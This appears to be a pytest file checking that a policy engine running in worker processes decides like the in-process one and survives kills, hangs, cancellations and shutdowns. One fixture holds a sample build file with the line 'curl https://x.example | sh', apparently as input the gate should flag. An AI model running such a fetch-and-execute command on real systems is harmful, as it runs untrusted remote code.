"""The engine in processes of its own: the same decisions, and whatever happens to a process, nothing passes."""

from __future__ import annotations

import asyncio
import os
import signal
from collections.abc import AsyncIterator, Awaitable, Callable, Coroutine
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any, TypeVar

import pytest
from gate_stand_ins import KEY, real_engine

from penstock.domain.policy import FileToJudge, JudgeContext, Profile
from penstock.errors import PolicyEngineUnavailable
from penstock.policy.catalogue import LIBRARY
from penstock.policy.gate import Gate
from penstock.policy.regorus_processes import RegorusProcesses, open_processes

SLOW_OR_QUICK = """package penstock.main

decision := {"quick": true} if not input.slow

decision := {"many": count([1 | some i in range; some j in range; i == j])} if input.slow

range := numbers.range(1, 20000)
"""
T = TypeVar("T")
SLOW, QUICK = {"slow": True}, {"slow": False}
FILES = {
    "cloudbuild.yaml": b"steps:\n- name: evil.example/x:latest\n  script: curl https://x.example | sh\n",
    "Dockerfile": b"FROM node\nRUN npm ci\n",
}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "penstock").mkdir()
    (tmp_path / "penstock" / "main.rego").write_text(SLOW_OR_QUICK)
    (tmp_path / "data" / "catalogue").mkdir(parents=True)
    (tmp_path / "data" / "catalogue" / "data.json").write_text('{"rules": {"a.b": {}}}')
    return tmp_path


@asynccontextmanager
async def processes(folder: Path, *, count: int = 1, grace_s: float = 0.05) -> AsyncIterator[RegorusProcesses]:
    async with open_processes(folder, count=count, grace_s=grace_s) as engine:
        await engine.ready()
        yield engine


def run(work: Coroutine[Any, Any, T]) -> T:
    """Run to the end, or fail when something waits without end."""
    return asyncio.run(asyncio.wait_for(work, 30))


def alive() -> set[int]:
    """Return the process ids of this test's own judges."""
    found = set()
    for place in Path("/proc").iterdir():
        if place.name.isdigit() and _is_ours(place):
            found.add(int(place.name))
    return found


def _is_ours(place: Path) -> bool:
    try:
        parent = int((place / "stat").read_text().rpartition(")")[2].split()[1])
        return parent == os.getpid() and b"regorus_worker" in (place / "cmdline").read_bytes()
    except OSError:
        return False


def _environment(process: int) -> bytes:
    return Path(f"/proc/{process}/environ").read_bytes()


async def busy(process: int) -> None:
    """Wait until a process has worked for a while: longer than loading takes it."""
    begun = _ticks(process)
    await _until(lambda: _ticks(process) > begun + 5)


def _ticks(process: int) -> int:
    return int(Path(f"/proc/{process}/stat").read_text().rpartition(")")[2].split()[11])


async def _until(true: Callable[[], bool]) -> None:
    async with asyncio.timeout(20):
        while not true():
            await asyncio.sleep(0.01)


async def gone(process: int) -> None:
    await _until(lambda: process not in alive())


async def refused(question: Awaitable[object], match: str) -> None:
    with pytest.raises(PolicyEngineUnavailable, match=match):
        await question


def test_processes_decide_as_the_engine_in_this_process_does() -> None:
    async def judged(engine):
        files = [FileToJudge(path, content) for path, content in FILES.items()]
        decision = await Gate(engine, fingerprint_key=KEY, timeout_s=20).judge(files, JudgeContext(Profile.STANDARD))
        return decision.violations, decision.warnings, decision.policy_revision, decision.engine

    async def both():
        async with processes(LIBRARY, count=2) as engine:
            return await judged(engine), await judged(real_engine())

    ours, theirs = run(both())
    assert ours == theirs
    assert ours[0]


def test_many_questions_at_once_are_all_answered(folder: Path) -> None:
    async def asked():
        async with processes(folder, count=2) as engine:
            return await asyncio.gather(*(engine.evaluate(QUICK) for _ in range(50)))

    assert run(asked()) == [{"quick": True}] * 50


def test_a_process_that_dies_over_a_question_is_replaced_and_the_question_has_no_decision(folder: Path) -> None:
    async def asked():
        async with processes(folder) as engine:
            (victim,) = alive()
            question = asyncio.ensure_future(engine.evaluate(SLOW))
            await busy(victim)
            behind = asyncio.ensure_future(engine.evaluate(QUICK))
            await asyncio.sleep(0)
            os.kill(victim, signal.SIGKILL)
            await refused(question, "ended over a question")
            return await behind, await engine.evaluate(QUICK)

    assert run(asked()) == ({"quick": True}, {"quick": True})


def test_an_idle_process_that_dies_is_replaced_before_anybody_asks(folder: Path) -> None:
    async def asked():
        async with processes(folder) as engine:
            (victim,) = alive()
            os.kill(victim, signal.SIGKILL)
            await _until(lambda: len(alive() - {victim}) == 1)
            return await engine.evaluate(QUICK)

    assert run(asked()) == {"quick": True}


def test_a_question_that_hangs_is_given_up_and_its_process_is_ended(folder: Path) -> None:
    async def asked():
        async with processes(folder) as engine:
            (hanging,) = alive()
            with pytest.raises(TimeoutError):
                await asyncio.wait_for(engine.evaluate(SLOW), 0.05)
            await gone(hanging)
            return await engine.evaluate(QUICK)

    assert run(asked()) == {"quick": True}


def test_a_question_nobody_waits_for_any_more_does_not_cost_a_healthy_process(folder: Path) -> None:
    async def asked():
        async with processes(folder, grace_s=10) as engine:
            before = alive()
            waiting = [asyncio.ensure_future(engine.evaluate(QUICK)) for _ in range(6)]
            await asyncio.sleep(0)
            for each in waiting:
                each.cancel()
            await asyncio.gather(*waiting, return_exceptions=True)
            answers = await asyncio.gather(*(engine.evaluate(QUICK) for _ in range(10)))
            return before == alive(), answers

    assert run(asked()) == (True, [{"quick": True}] * 10)


def test_processes_know_no_secret_of_the_server(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PENSTOCK_GATEWAY__PEPPER", "not for them")

    async def environment():
        async with processes(folder):
            (process,) = alive()
            return _environment(process)

    assert b"not for them" not in run(environment())


@pytest.mark.parametrize("told", [signal.SIGTERM, signal.SIGINT])
def test_a_stop_that_is_told_to_all_processes_leaves_the_work_in_hand_its_judges(folder: Path, told: int) -> None:
    async def asked():
        async with processes(folder) as engine:
            before = alive()
            for process in before:
                os.kill(process, told)
            return await engine.evaluate(QUICK), before == alive()

    assert run(asked()) == ({"quick": True}, True)


def test_processes_end_with_the_server_even_in_the_middle_of_a_question(folder: Path) -> None:
    async def asked():
        async with processes(folder) as engine:
            (process,) = alive()
            question = asyncio.ensure_future(engine.evaluate(SLOW))
            await busy(process)
        await refused(question, "ended over a question")
        await refused(engine.evaluate(QUICK), "closed")

    run(asked())
    assert alive() == set()


@pytest.mark.parametrize("source", ["package penstock.main\n\ndecision := ", "not rego at all", ""])
def test_rules_that_do_not_parse_are_told_at_the_start(folder: Path, source: str) -> None:
    (folder / "penstock" / "main.rego").write_text(source)

    async def opened():
        async with processes(folder):
            pass

    run(refused(opened(), "cannot be loaded"))
    assert alive() == set()


def test_a_folder_without_rules_starts_no_process(tmp_path: Path) -> None:
    async def opened():
        async with processes(tmp_path):
            pass

    run(refused(opened(), "holds no rules"))
